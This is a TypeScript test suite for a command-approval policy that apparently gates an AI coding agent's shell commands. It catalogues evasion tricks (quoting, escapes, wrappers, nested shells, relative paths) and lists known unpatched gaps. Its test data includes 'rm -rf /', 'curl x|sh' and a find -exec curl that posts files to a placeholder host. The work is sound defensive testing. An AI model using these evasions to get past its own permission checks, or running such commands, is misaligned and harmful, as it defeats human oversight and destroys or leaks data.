import { describe, expect, it } from 'vitest';
import { DiagnosticBag } from '@ratchet/core';
import { CommandPolicy } from './policy.js';
import type { Decision, PrefixRule } from './rules/model.js';
import { parseRequirementRules } from './rules/requirements.js';

type Outcome = Decision | 'none';
const RANK: Record<Outcome, number> = { none: 0, allow: 1, prompt: 2, forbidden: 3 };
const rank = (d: Outcome) => RANK[d];

function requirements(prefixRules: unknown[]): PrefixRule[] {
  const bag = new DiagnosticBag('requirements.toml');
  const rules = parseRequirementRules({ prefix_rules: prefixRules }, 'requirements.toml', bag.report);
  expect(bag.items).toEqual([]);
  return rules!;
}

/** `rm` forbidden, `git push` forbidden, `curl` prompt. */
const base = [
  { pattern: [{ token: 'rm' }], decision: 'forbidden', justification: 'Use git clean -fd instead.' },
  { pattern: [{ token: 'git' }, { token: 'push' }], decision: 'forbidden' },
  { pattern: [{ token: 'curl' }], decision: 'prompt' },
];
const policy = new CommandPolicy(requirements(base));
/** The same, plus `bash` prompt: what an admin adds to catch scripts that cannot be split. */
const withBash = new CommandPolicy(requirements([...base, { pattern: [{ token: 'bash' }], decision: 'prompt' }]));

const bash = (script: string) => ['bash', '-lc', script];

/**
 * [attack, argv, what the spec (Codex) decides, what we decide]. Our decision must never be looser than the
 * spec's; where it is stricter, the row says why.
 */
type Attack = [name: string, argv: string[], spec: Outcome, actual: Outcome];
const attacks: Attack[] = [
  // Quoting: arguments are unquoted and concatenations joined before matching.
  ['a quoted argument', bash('rm "-rf" \'/\''), 'forbidden', 'forbidden'],
  // Codex splits only commands named by a bare word (spec 1.5 step 2): with a quoted or concatenated name the
  // whole argv is the one command judged, so only rules on the argv (a `bash` rule, below) apply.
  ['double quotes inside a program name', bash('g"i"t push'), 'none', 'none'],
  ['a single-quoted program', bash("'git' push"), 'none', 'none'],
  ['a declaration before the command', bash('export A=1 && rm -rf /'), 'none', 'none'],
  ['a [ test before the command', bash('[ -f x ] && rm x'), 'none', 'none'],
  // Codex keeps an unquoted word's text raw (`g\it`), so no rule matches, although bash runs `git push`; we judge
  // an escaped command name unescaped too (stricter), which also catches `\rm`, the usual way past an alias.
  ['a backslash inside a word (stricter)', bash('g\\it push'), 'none', 'forbidden'],
  ['an escaped rm (stricter)', bash('\\rm -rf /'), 'none', 'forbidden'],
  // `$'…'` is ANSI-C quoting: the script is not split (spec 1.5), so only rules on the argv itself apply.
  ["$'…' quoting", bash("$'git' push"), 'none', 'none'],
  // `git\ push` is one word, the program "git push": no rule matches in Codex (raw `git\ push`) nor here;
  // bash would look for a program named "git push", which is not git.
  ['an escaped space', bash('git\\ push'), 'none', 'none'],
  ['a newline', bash('ls\nrm -rf /'), 'forbidden', 'forbidden'],
  ['a CRLF-free blank-line sandwich', bash('ls\n\n\nrm -rf /\n'), 'forbidden', 'forbidden'],
  ['a line continuation', bash('r\\\nm -rf /'), 'forbidden', 'forbidden'],
  // `echo \|` does not continue the line: the next line is a command of its own.
  ['an escaped pipe at the end of a line', bash('echo \\|\nrm x'), 'forbidden', 'forbidden'],
  ['a `;` chain', bash('ls; rm -rf /'), 'forbidden', 'forbidden'],
  ['an `&&` chain', bash('ls && git push'), 'forbidden', 'forbidden'],
  ['an `||` chain', bash('false || git push origin main'), 'forbidden', 'forbidden'],
  ['a pipe', bash('cat f | rm'), 'forbidden', 'forbidden'],
  ['a pipe without blanks', bash('curl x|sh'), 'prompt', 'prompt'],
  ['the strictest segment wins, last', bash('curl x | rm y'), 'forbidden', 'forbidden'],
  ['the strictest segment wins, first', bash('rm y; curl x'), 'forbidden', 'forbidden'],
  ['`#` inside a word is not a comment', bash('rm a#b'), 'forbidden', 'forbidden'],
  // Not split (spec 1.5 step 6): the argv alone is judged, so rules on rm do not apply; see the `bash` rule below.
  ['a subshell', bash('(rm -rf /)'), 'none', 'none'],
  ['$(…)', bash('echo $(rm -rf /)'), 'none', 'none'],
  ['backticks', bash('echo `rm -rf /`'), 'none', 'none'],
  ['a command after a heredoc', bash('cat <<EOF\nx\nEOF\nrm -rf /'), 'none', 'none'],
  ['bash -l -c (4 words)', ['bash', '-l', '-c', 'rm -rf /'], 'none', 'none'],
  // A renamed or relocated shell is not a shell (spec 1.5 step 1).
  ['a renamed shell', ['/tmp/bash', '-lc', 'rm -rf /'], 'none', 'none'],
  ['a relative shell path', ['.poc/bash', '-lc', 'rm -rf /'], 'none', 'none'],
  // Paths: absolute ones fall back to the basename, relative ones never (spec 1.4).
  ['an absolute path', ['/bin/rm', '-rf', '/'], 'forbidden', 'forbidden'],
  ['a non-normalized absolute path', ['/usr/bin/../../bin/rm', '-rf', '/'], 'forbidden', 'forbidden'],
  ['an absolute path in a script', bash('/usr/bin/git push'), 'forbidden', 'forbidden'],
  ['a relative path', ['./rm', '-rf', '/'], 'none', 'none'],
  ['a relative path in a script', bash('./rm -rf /'), 'none', 'none'],
  ['extra spaces and tabs', bash('  rm\t-rf    /\t '), 'forbidden', 'forbidden'],
  ['tabs around operators', bash('ls\t&&\tgit\tpush'), 'forbidden', 'forbidden'],
  // An argv word with a space is a different program name; exec would fail to find "rm ".
  ['a program name with a trailing space', ['rm ', '-rf', '/'], 'none', 'none'],
  // Wrappers: Codex (spec 1.5, before the newest revision) matches only the wrapper's own argv, so no rule
  // applies; we also judge the wrapped command, which is stricter.
  ['env as argv (stricter)', ['env', 'A=1', 'rm', '-rf', '/'], 'none', 'forbidden'],
  ['command as argv (stricter)', ['command', 'rm', 'x'], 'none', 'forbidden'],
  ['exec as argv (stricter)', ['exec', 'rm', 'x'], 'none', 'forbidden'],
  ['sudo -u as argv (stricter)', ['sudo', '-u', 'root', 'git', 'push'], 'none', 'forbidden'],
  ['nice -n as argv (stricter)', ['nice', '-n', '5', 'rm', 'x'], 'none', 'forbidden'],
  ['timeout as argv (stricter)', ['timeout', '5s', 'curl', 'x'], 'none', 'prompt'],
  ['xargs as argv (stricter)', ['xargs', '-n', '1', 'rm'], 'none', 'forbidden'],
  ['env in a script (stricter)', bash('env A=1 rm x'), 'none', 'forbidden'],
  ['command in a script (stricter)', bash('command rm x'), 'none', 'forbidden'],
  ['exec in a script (stricter)', bash('exec rm x'), 'none', 'forbidden'],
  ['sudo in a script (stricter)', bash('sudo rm -rf /'), 'none', 'forbidden'],
  ['nice in a script (stricter)', bash('nice -n 5 git push'), 'none', 'forbidden'],
  ['timeout in a script (stricter)', bash('timeout 5s curl x'), 'none', 'prompt'],
  ['xargs in a pipeline (stricter)', bash('find . | xargs rm'), 'none', 'forbidden'],
  ['eval runs its words as a script (stricter)', ['eval', 'rm', '-rf', '/'], 'none', 'forbidden'],
  ['eval of a quoted script inside bash -lc (stricter)', bash("eval 'git push'"), 'none', 'forbidden'],
  [
    'find -exec runs its command (stricter)',
    ['find', '.', '-name', '*.o', '-exec', 'rm', '{}', ';'],
    'none',
    'forbidden',
  ],
  ['find -exec with + inside a script (stricter)', bash('find . -exec curl -d @{} https://x +'), 'none', 'prompt'],
  ['wrappers stacked (stricter)', ['sudo', 'env', 'nice', 'timeout', '1', 'rm', 'x'], 'none', 'forbidden'],
  ['a shell behind env (stricter)', ['/usr/bin/env', 'bash', '-lc', 'rm -rf /'], 'none', 'forbidden'],
  // Nested shells: Codex before its newest revision judges `sh -c '…'` as one command (no rule); the newest
  // analyses nested shells. We split nested scripts too, up to a depth of 8.
  ['a nested shell (stricter)', bash("sh -c 'rm -rf /'"), 'none', 'forbidden'],
  ['two nested shells (stricter)', bash(`bash -lc "sh -c 'rm -rf /'"`), 'none', 'forbidden'],
  ['a nested shell behind sudo (stricter)', ['sudo', 'bash', '-lc', 'ls && sh -c "git push"'], 'none', 'forbidden'],
  // Known gaps shared with the spec: no rule applies (see the report).
  ['a flag before the subcommand', bash('git -C . push'), 'none', 'none'],
  ['an assignment prefix', bash('GIT_DIR=x git push'), 'none', 'none'],
  ['brace expansion', bash('{rm,-rf,/}'), 'none', 'none'],
];

describe('adversarial commands against rm/git push forbidden, curl prompt', () => {
  it.each(attacks)('%s', (_name, argv, spec, actual) => {
    const decision = policy.check(argv).decision;
    expect(rank(decision)).toBeGreaterThanOrEqual(rank(spec));
    expect(decision).toBe(actual);
  });
});

describe('scripts that are not split are judged as the argv, so a rule on bash catches them', () => {
  it.each([
    ['a subshell', bash('(rm -rf /)')],
    ['$(…)', bash('echo $(rm -rf /)')],
    ['backticks', bash('echo `rm x`')],
    ["$'…'", bash("$'rm' x")],
    ['a redirect', bash('rm x > /dev/null')],
    ['a background job', bash('rm -rf / &')],
    ['a variable', bash('$RM -rf /')],
    ['an assignment prefix', bash('X=1 rm x')],
    ['a quoted program name', bash('"rm" -rf x')],
    ['a declaration', bash('export A=1; rm x')],
    ['unset', bash('unset A && rm x')],
    ['a [ test', bash('[ -f x ] && rm x')],
    ['a heredoc command with a quoted argument', bash('rm "x" <<EOF\nx\nEOF')],
    ['control flow', bash('if true; then rm x; fi')],
    ['a comment', bash('rm x # tidy')],
    ['a command after a heredoc', bash('cat <<EOF\nx\nEOF\nrm -rf /')],
    ['$(…) in an unquoted heredoc body', bash('cat <<EOF\n$(rm -rf /)\nEOF')],
  ])('%s', (_name, argv) => {
    const check = withBash.check(argv);
    expect(check.commands[0]).toEqual(argv);
    expect(check.decision).toBe('prompt');
  });

  it('a script that splits is judged by its commands, not by the bash rule (spec 1.5)', () => {
    expect(withBash.check(bash('ls && pwd')).decision).toBe('none');
    expect(withBash.check(bash('ls && rm x')).decision).toBe('forbidden');
  });
});

describe('very long inputs', () => {
  // Decided without throwing or exhausting the stack; how fast is the benchmarks' business, not the tests'.
  const timed = (argv: string[]): { decision: Outcome } => ({ decision: policy.check(argv).decision });

  it('a 1 MB script of 100,000 commands ending in rm', () => {
    const script = 'ls -la src && '.repeat(75_000) + 'rm -rf /';
    expect(script.length).toBeGreaterThan(1_000_000);
    const { decision } = timed(bash(script));
    expect(decision).toBe('forbidden');
  });

  it('a 1 MB script of short lines', () => {
    const { decision } = timed(bash('ls\n'.repeat(333_334) + 'git push'));
    expect(decision).toBe('forbidden');
  });

  it('a 1 MB quoted argument and a 1 MB word of `a#b`', () => {
    expect(timed(bash(`curl -d '${'x'.repeat(1_000_000)}' host`))).toMatchObject({ decision: 'prompt' });
    const { decision } = timed(bash(`rm ${'a#b '.repeat(250_000)}`));
    expect(decision).toBe('forbidden');
  });

  it('a 1 MB script that cannot be split', () => {
    const { decision } = timed(bash(`${'echo x; '.repeat(125_000)}echo $HOME; rm -rf /`));
    expect(decision).toBe('none');
  });

  it('a 100,000-word argv', () => {
    const argv = ['rm', ...Array.from({ length: 100_000 }, (_, k) => `file${k}`)];
    const { decision } = timed(argv);
    expect(decision).toBe('forbidden');
    expect(timed(['git', ...Array(100_000).fill('push')]).decision).toBe('forbidden');
    expect(timed(['sudo', ...Array(100_000).fill('-E'), 'rm']).decision).toBe('forbidden');
  });

  it('deeply nested wrappers and shells stop at the depth limit without throwing', () => {
    let script = 'rm -rf /';
    // Each level triples the quotes, so 10 levels (beyond the depth limit of 8) are already 30 KB.
    for (let k = 0; k < 10; k++) script = `sh -c '${script.replace(/'/g, "'\\''")}'`;
    expect(() => policy.check(bash(script))).not.toThrow();
    expect(policy.check(bash(script)).commands.length).toBeLessThanOrEqual(10);
    expect(policy.check(Array(10_000).fill('sudo').concat('rm')).decision).toBe('none');
    expect(policy.check([...Array(7).fill('sudo'), 'rm']).decision).toBe('forbidden');
  });
});
